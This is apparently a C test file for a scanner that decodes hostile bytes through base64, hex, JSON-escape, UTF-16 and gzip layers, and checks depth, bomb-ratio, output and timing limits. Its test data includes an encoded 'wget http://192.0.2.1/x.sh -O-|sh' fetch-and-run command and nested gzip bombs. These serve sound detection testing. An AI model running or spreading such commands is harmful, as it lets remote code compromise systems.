/* SPDX-License-Identifier: Apache-2.0 */
/* Decoded views of hostile bytes: bounded, never twice, and the quick look misses nothing. */
#include "rules/views.h"

#include <criterion/criterion.h>
#include <stdlib.h>
#include <zlib.h>

#include "base/buffer.h"
#include "base/clock.h"

struct seen {
    struct buffer last; /* the last view */
    size_t views, bytes, deepest, stop_after;
    struct view copies[64];
};

static bool on_view(void *context, const struct scan_view_path *path, struct view bytes)
{
    struct seen *seen = context;

    cr_assert(path->length >= 1 && path->length <= SCAN_VIEW_DEPTH && bytes.length > 0);
    seen->views++;
    seen->bytes += bytes.length;
    seen->deepest = path->length > seen->deepest ? path->length : seen->deepest;
    buffer_clear(&seen->last);
    buffer_append(&seen->last, bytes);
    return seen->stop_after == 0 || seen->views < seen->stop_after;
}

static const char *decode(struct seen *seen, struct view bytes, const struct scan_view_limits *limits)
{
    struct scan_view_space *space = scan_view_space_new();
    const char *why = scan_views(space, bytes, SCAN_VIEWS_ALL, limits, on_view, seen);

    scan_view_space_free(space);
    return why;
}

static struct buffer gzip(struct view bytes)
{
    struct buffer out = {0};
    z_stream stream = {.next_in = (Bytef *)(uintptr_t)bytes.data, .avail_in = (uInt)bytes.length};

    cr_assert_eq(deflateInit2(&stream, 9, Z_DEFLATED, 15 + 16, 9, Z_DEFAULT_STRATEGY), Z_OK);
    const size_t room = deflateBound(&stream, bytes.length);

    stream.next_out = buffer_reserve(&out, room);
    stream.avail_out = (uInt)room;
    cr_assert_eq(deflate(&stream, Z_FINISH), Z_STREAM_END);
    out.end += room - stream.avail_out;
    deflateEnd(&stream);
    return out;
}

static struct buffer filled(size_t size, const char *pattern)
{
    struct buffer out = {0};

    while (buffer_length(&out) < size)
        buffer_append(&out, view_of_string(pattern));
    return out;
}

Test(views, have_names)
{
    cr_assert_str_eq(scan_view_name(SCAN_RAW), "raw");
    cr_assert_str_eq(scan_view_name(SCAN_UTF16), "utf16");
}

Test(views, of_nothing)
{
    struct seen seen = {0};

    cr_assert_null(decode(&seen, (struct view){NULL, 0}, &scan_view_default_limits));
    cr_assert_null(decode(&seen, VIEW("{"), &scan_view_default_limits));
    cr_assert_eq(seen.views, 0);
}

Test(views, only_of_the_kinds_asked_for)
{
    struct seen seen = {0};
    struct scan_view_space *space = scan_view_space_new();
    const struct view text = VIEW("\\u0024 SGVsbG8sIG1xd2FyZCE 000102030405060708090a0b0c0d0e0f");

    for (unsigned kind = 0; kind < SCAN_VIEW_KINDS; kind++) {
        seen.views = 0;
        cr_assert_null(scan_views(space, text, 1U << kind, &scan_view_default_limits, on_view, &seen));
        cr_assert_eq(seen.views, kind == SCAN_BASE64 || kind == SCAN_HEX || kind == SCAN_JSON);
    }
    scan_view_space_free(space);
    buffer_release(&seen.last);
}

Test(views, end_when_told)
{
    struct seen seen = {.stop_after = 1};
    const struct view text = VIEW("\\u0024 SGVsbG8sIG1xd2FyZCE 000102030405060708090a0b0c0d0e0f");

    cr_assert_null(decode(&seen, text, &scan_view_default_limits));
    cr_assert_eq(seen.views, 1);
    buffer_release(&seen.last);
}

Test(views, no_depth_no_views)
{
    struct seen seen = {0};
    struct scan_view_limits limits = scan_view_default_limits;

    limits.depth = 0;
    cr_assert_str_eq(decode(&seen, VIEW("SGVsbG8sIG1xd2FyZCE"), &limits), "depth");
    cr_assert_null(decode(&seen, VIEW("21.5"), &limits));
    cr_assert_eq(seen.views, 0);
}

Test(views, a_bomb_is_a_finding)
{
    struct buffer zeros = {0};

    memset(buffer_reserve(&zeros, 8 << 20), 0, 8 << 20);
    zeros.end = 8 << 20;
    struct buffer once = gzip(buffer_view(&zeros)), twice = gzip(buffer_view(&once));
    struct seen seen = {0};

    cr_assert_str_eq(decode(&seen, buffer_view(&once), &scan_view_default_limits), "ratio");
    cr_assert(seen.bytes >= SCAN_VIEW_RATIO_FROM && seen.bytes < 4 * SCAN_VIEW_RATIO_FROM);
    seen.bytes = 0;
    cr_assert_str_eq(decode(&seen, buffer_view(&twice), &scan_view_default_limits), "ratio");
    cr_assert(seen.bytes < 1 << 20);
    /* Of a small message, the bound on output is the first. */
    const struct scan_view_limits small = scan_view_limits_for(100);

    seen.bytes = 0;
    cr_assert_not_null(decode(&seen, buffer_view(&twice), &small));
    cr_assert(seen.bytes <= small.output);
    buffer_release(&zeros);
    buffer_release(&once);
    buffer_release(&twice);
    buffer_release(&seen.last);
}

/* What compresses well and is not yet a bomb comes whole. */
Test(views, a_good_ratio_is_no_bomb)
{
    struct buffer text = filled(60000, "{\"t\":21.5},"), packed = gzip(buffer_view(&text));
    struct seen seen = {0};

    cr_assert_null(decode(&seen, buffer_view(&packed), &scan_view_default_limits));
    cr_assert(view_equal(buffer_view(&seen.last), buffer_view(&text)));
    buffer_release(&text);
    buffer_release(&packed);
    buffer_release(&seen.last);
}

Test(views, of_each_prefix_of_gzip_are_prefixes)
{
    struct buffer text = filled(300, "echo -n 1;"), packed = gzip(buffer_view(&text));
    size_t before = 0;

    for (size_t length = 4; length < buffer_length(&packed); length++) {
        struct seen seen = {0};

        cr_assert_str_eq(decode(&seen, view_of(packed.data, length), &scan_view_default_limits), "damaged");
        const struct view last = buffer_view(&seen.last);

        cr_assert(last.length >= before && view_starts_with(buffer_view(&text), last));
        before = last.length;
        buffer_release(&seen.last);
    }
    cr_assert_eq(before, buffer_length(&text));
    buffer_release(&text);
    buffer_release(&packed);
}

Test(views, of_deep_nesting_end)
{
    struct buffer bytes = filled(40, "wget http://192.0.2.1/a; ");
    struct seen seen = {0};

    for (int i = 0; i < 8; i++) {
        struct buffer next = gzip(buffer_view(&bytes));

        buffer_release(&bytes);
        bytes = next;
    }
    cr_assert_str_eq(decode(&seen, buffer_view(&bytes), &scan_view_default_limits), "depth");
    cr_assert_eq(seen.views, SCAN_VIEW_DEPTH);
    cr_assert_eq(seen.deepest, SCAN_VIEW_DEPTH);
    buffer_release(&bytes);
    buffer_release(&seen.last);
}

/* Members are read once, also if the last of them is damaged. */
Test(views, of_many_members_cost_what_they_are_long)
{
    struct buffer member = gzip(VIEW("")), all = {0};
    struct scan_view_limits limits = scan_view_default_limits;
    struct seen seen = {0};

    for (int i = 0; i < 1000; i++)
        buffer_append(&all, buffer_view(&member));
    limits.work = 4 * buffer_length(&all);
    cr_assert_null(decode(&seen, buffer_view(&all), &limits));
    all.end -= 3;
    cr_assert_str_eq(decode(&seen, buffer_view(&all), &limits), "damaged");
    cr_assert_eq(seen.views, 0);
    buffer_release(&member);
    buffer_release(&all);
}

/* Within the bounds whatever the bytes, and within a time that no loop notices. */
Test(views, of_hostile_text_are_bounded)
{
    static const char *const patterns[] = {"A", "Aa", "a/", "Aa/b+", "\\", "\\u", "\\u0041", "0x", "0x4",
        "41 ", "4 1", "abcdefABCDEFabcdefABCDEF0 ", "QUFBQUFBQUFBQUFBQUFBQQ== 41414141414141414141414141 ",
        "\x1f\x8b\x08", "\x1f\x8b\x08\x01\x01\x01\x01\x01\x01\x01", "x\x9c\x01", "A\n", "AAAAAAAAAAAAAAAA\n",
        "Aa0/\r\n", "%41%", "\\x41", "aB3dE5gH7jK9mN1p."};

    for (size_t i = 0; i < sizeof(patterns) / sizeof(patterns[0]); i++) {
        struct buffer text = filled(65536, patterns[i]);
        const struct scan_view_limits limits = scan_view_limits_for(buffer_length(&text));
        struct seen seen = {0};
        const uint64_t start = clock_monotonic_ns();

        decode(&seen, buffer_view(&text), &limits);
        cr_assert(seen.views <= limits.views && seen.bytes <= limits.output);
        cr_assert(clock_monotonic_ns() - start < UINT64_C(5000000000), "%s", patterns[i]);
        buffer_release(&text);
        buffer_release(&seen.last);
    }
}

Test(views, of_zeros)
{
    static const uint8_t zeros[4096];
    struct seen seen = {0};

    cr_assert_null(decode(&seen, view_of(zeros, sizeof(zeros)), &scan_view_default_limits));
    cr_assert_eq(seen.views, 0);
}

/* A cut of the output gives what fits, wherever it falls. */
Test(views, each_bound_of_output_gives_a_prefix)
{
    const struct view texts[] = {VIEW("d2dldCBodHRwOi8vMTkyLjAuMi4xL3guc2ggLU8tfHNo"),
        VIEW("7767657420687474703a2f2f3139322e302e322e312f782e7368202d4f2d7c7368"),
        VIEW("\\u0077get http:\\/\\/192.0.2.1\\u002fx.sh -O-|sh"),
        VIEW("w\0g\0e\0t\0 \0h\0t\0t\0p\0:\0/\0/\0"
             "1\0009\0002\0.\0000\0.\0002\0.\0001\0/\0x\0.\0s\0h\0 \0-\0O\0-\0|\0s\0h\0")};
    static const char whole[] = "wget http://192.0.2.1/x.sh -O-|sh";

    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        for (unsigned output = 0; output <= sizeof(whole); output++) {
            struct scan_view_limits limits = scan_view_default_limits;
            struct seen seen = {0};

            limits.output = output;
            const char *why = decode(&seen, texts[i], &limits);

            cr_assert_eq(why == NULL, output >= sizeof(whole) - 1, "%zu: %u: %s", i, output, why);
            cr_assert(why == NULL || strcmp(why, "output") == 0);
            cr_assert(seen.bytes <= output &&
                      view_starts_with(VIEW("wget http://192.0.2.1/x.sh -O-|sh"), buffer_view(&seen.last)));
            cr_assert(output < 4 || seen.bytes + 4 > (output < 33 ? output : 33));
            buffer_release(&seen.last);
        }
    }
}

/* The same space, used again, remembers nothing. */
Test(views, of_two_messages_know_nothing_of_each_other)
{
    struct scan_view_space *space = scan_view_space_new();

    for (int i = 0; i < 3; i++) {
        struct seen seen = {0};

        cr_assert_null(scan_views(
            space, VIEW("SGVsbG8sIG1xd2FyZCE"), SCAN_VIEWS_ALL, &scan_view_default_limits, on_view, &seen));
        cr_assert_eq(seen.views, 1);
        buffer_release(&seen.last);
    }
    scan_view_space_free(space);
    scan_view_space_free(NULL);
}
